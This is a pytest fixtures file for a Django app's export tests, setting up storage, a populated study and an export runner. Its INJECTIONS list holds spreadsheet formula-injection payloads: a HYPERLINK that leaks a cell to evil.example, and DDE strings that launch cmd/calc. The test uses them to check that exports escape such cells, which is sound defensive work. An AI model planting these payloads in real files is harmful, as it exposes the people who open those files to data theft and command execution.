"""Fixtures of the export tests: private storage in a temporary folder, a
populated study, and a way to run an export job to its end in-process."""

import pytest

from exports.models import ExportJob
from exports.runner import export_job_run
from exports.services import export_job_create
from tests.exports.factories import populate_study

# Cells a spreadsheet would run as formulas if they were written naively.
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.fixture(autouse=True)
def private_storage(settings, tmp_path):
    settings.PRIVATE_STORAGE_ROOT = tmp_path / "private"
    return settings.PRIVATE_STORAGE_ROOT


@pytest.fixture
def populated(personas, study_a):
    """Study A with 6 complete sessions, the edge cases and formula-like prompts."""
    return populate_study(study_a, sessions=6, prompt_texts=INJECTIONS)


@pytest.fixture
def run_export(django_capture_on_commit_callbacks, personas):
    """run_export(study, fmt, **options) -> the finished ExportJob (task run eagerly)."""

    def run(study, fmt, *, requested_by=None, **options) -> ExportJob:
        with django_capture_on_commit_callbacks(execute=True):
            job = export_job_create(
                study=study,
                requested_by=requested_by or personas["coordinator_a"],
                fmt=fmt,
                **options,
            )
        job.refresh_from_db()
        if not job.is_finished:  # no broker in this run: run it here, as the worker would
            export_job_run(job_id=job.pk)
            job.refresh_from_db()
        return job

    return run
